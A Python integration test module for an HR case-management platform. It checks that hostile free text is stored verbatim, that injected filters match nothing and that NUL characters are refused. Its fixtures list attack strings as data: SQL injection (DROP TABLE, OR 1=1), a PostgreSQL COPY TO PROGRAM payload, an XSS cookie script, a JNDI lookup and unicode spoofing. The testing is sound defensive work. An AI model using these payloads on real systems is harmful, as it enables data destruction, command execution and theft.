"""Free text an attacker controls, on SQLite and on PostgreSQL: SQL-ish strings and unicode
tricks are stored and returned verbatim (and never widen a filter); NUL is refused everywhere.

NUL (U+0000) made every service answer 500 on PostgreSQL, whose text and jsonb cannot hold it,
while SQLite stored it; ``naervaer.http.nul_guard`` now refuses it with a 400 on both.
"""

from __future__ import annotations

import uuid
from collections.abc import AsyncIterator

import pytest

from naervaer.testing.pytest_plugin import temporary_database

from .hosting import Platform, assert_clean_problem, hosted_platform, platform_settings
from .world import open_case, projected

pytestmark = pytest.mark.integration

HOSTILE_TEXTS = (
    "Robert'); DROP TABLE events;--",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10); --",
    "%' OR 1=1 --",
    "\\'; --\\",
    "$$; COPY events TO PROGRAM 'id'; $$",
    "<script>alert(document.cookie)</script>",
    "{{7*7}} ${jndi:ldap://x.example/a} %s%s%n",
    "\u202eevil.exe\u202c",  # right-to-left override
    "Z\u0351\u0300a\u0301l\u0308g\u0352o",  # combining marks
    "\ufeffBOM\u200b\u200dzero\u2060width",
    "👩\u200d⚕️ sykepleier 🏥",
    "æøå ÆØÅ ß İı ﬃ",
    "tab\there",
    "\\u0000 literally",  # a backslash and u0000: text, not a NUL
)


@pytest.fixture(scope="module")
async def pg_platform(
    tmp_path_factory: pytest.TempPathFactory, postgres_url: str
) -> AsyncIterator[Platform]:
    async with temporary_database(postgres_url) as url:
        settings = platform_settings(tmp_path_factory.mktemp("pg-platform"), database_url=url)
        async with hosted_platform(settings) as hosted:
            yield hosted


@pytest.fixture(params=["sqlite", "postgres"])
def any_platform(request: pytest.FixtureRequest) -> Platform:
    hosted: Platform = request.getfixturevalue(
        "platform" if request.param == "sqlite" else "pg_platform"
    )
    return hosted


NUL_REQUESTS = (
    ("case", "GET", "/v1/cases/a%00b", None),
    ("case", "GET", "/v1/cases?org_unit=a%00b", None),
    ("case", "GET", "/v1/cases?a%00b=c", None),  # in a parameter's name
    ("case", "GET", "/v1/cases/a%3F%00b", None),  # after a decoded "?" in the path
    ("case", "POST", "/v1/cases/a%00b/close", {"closed_on": "2026-03-31", "reason": "other"}),
    (
        "case",
        "POST",
        "/v1/cases",
        {
            "employee_id": "emp-9",
            "manager_id": "mgr-9",
            "org_unit": "a\x00b",
            "first_absence_day": "2026-01-05",
        },
    ),
    ("deadline", "GET", "/v1/obligations?manager_id=a%00b", None),
    ("deadline", "GET", "/v1/managers/a%00b/deadlines.ics", None),
    ("notification", "GET", "/v1/recipients/a%00b", None),
    ("notification", "PUT", "/v1/recipients/emp-9", {"display_name": "Ola\x00Nordmann"}),
    ("notification", "POST", "/v1/test-send", {"party_id": "a\x00b", "channel": "email"}),
    ("document", "GET", "/v1/documents/a%00b", None),
    ("document", "GET", "/v1/cases/a%00b/dossier", None),
)


@pytest.mark.parametrize(
    ("service", "method", "path", "body"),
    NUL_REQUESTS,
    ids=[f"{r[0]}-{r[2]}" for r in NUL_REQUESTS],
)
async def test_nul_anywhere_is_a_400_problem(
    any_platform: Platform, service: str, method: str, path: str, body: object
) -> None:
    response = await any_platform.clients[service].request(
        method, path, json=body, headers=any_platform.auth("hr")
    )
    problem = assert_clean_problem(response, 400)
    assert problem["type"] == "urn:naervaer:problem:nul-character"


async def test_hostile_text_is_stored_and_returned_verbatim(any_platform: Platform) -> None:
    hr = any_platform.auth("hr")
    run = uuid.uuid4().hex[:8]
    opened = {
        text: await open_case(any_platform, employee_id=f"emp-{run}-{i}", org_unit=text)
        for i, text in enumerate(HOSTILE_TEXTS)
    }
    for text, case in opened.items():
        response = await any_platform.clients["case"].get(f"/v1/cases/{case.case_id}", headers=hr)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "application/json"
        assert response.json()["org_unit"] == text


async def test_sql_in_a_filter_matches_literally_and_widens_nothing(any_platform: Platform) -> None:
    hr = any_platform.auth("hr")
    marker = f"unit-{uuid.uuid4().hex[:8]}"
    case = await open_case(
        any_platform, employee_id=f"emp-{marker}", org_unit=f"{marker}' OR '1'='1"
    )
    await projected(any_platform, case)
    for service, path, items in (
        ("case", "/v1/cases", "items"),
        ("deadline", "/v1/obligations", "obligations"),
    ):
        exact = await any_platform.clients[service].get(
            path, params={"org_unit": case.org_unit}, headers=hr
        )
        assert {i["case_id"] for i in exact.json()[items]} == {case.case_id}, exact.text
        for injection in _injections(marker):
            widened = await any_platform.clients[service].get(
                path, params={"org_unit": injection}, headers=hr
            )
            assert widened.status_code == 200, widened.text
            assert widened.json()[items] == [], (service, injection)


def _injections(marker: str) -> tuple[str, ...]:
    """Filters that match nothing literally, but everything (or the marker's case) if pasted
    into SQL or treated as a LIKE pattern."""
    nothing = f"no-such-{uuid.uuid4().hex[:8]}"
    return (
        f"{nothing}' OR '1'='1",
        f"{nothing}' OR 1=1 --",
        f'{nothing}" OR ""="',
        f"{nothing}') OR ('a'='a",
        f"{marker[:-2]}%",
        f"{marker[:-2]}__' OR '1'='1",
    )


async def test_hostile_names_round_trip_through_the_address_book(any_platform: Platform) -> None:
    hr = any_platform.auth("hr")
    client = any_platform.clients["notification"]
    for i, text in enumerate(HOSTILE_TEXTS):
        party = f"party-{uuid.uuid4().hex[:8]}-{i}"
        stored = await client.put(
            f"/v1/recipients/{party}", json={"display_name": text}, headers=hr
        )
        assert stored.status_code == 200, stored.text
        read = await client.get(f"/v1/recipients/{party}", headers=hr)
        assert read.json()["display_name"] == text


def test_the_texts_are_what_they_claim() -> None:
    # Guards the fixtures themselves: an editor that "cleans" invisible characters would
    # quietly weaken the tests above.
    assert "\u202e" in HOSTILE_TEXTS[9]
    assert "\u200d" in HOSTILE_TEXTS[12]
    assert all("\x00" not in text for text in HOSTILE_TEXTS)
